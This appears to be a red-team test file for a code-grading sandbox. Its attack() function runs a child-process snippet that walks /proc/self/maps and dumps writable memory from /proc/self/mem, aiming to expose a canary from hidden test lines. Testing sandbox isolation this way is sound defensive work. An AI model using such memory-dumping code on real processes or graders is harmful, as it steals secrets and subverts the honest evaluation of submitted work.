"""In the child, the process reads its own memory.

Success: the canary in the hidden lines of a test that is judged outside.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.in_child(
        """
        try:
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
                for line in maps:
                    area, mode = line.split()[:2]
                    if not mode.startswith("rw") or "[v" in line:
                        continue
                    begin, end = (int(part, 16) for part in area.split("-"))
                    try:
                        memory.seek(begin)
                        show(memory.read(min(end - begin, 1 << 27)))
                    except (OSError, OverflowError, ValueError):
                        pass
        except OSError as error:
            print(error)
        """,
        SHOW,
    )
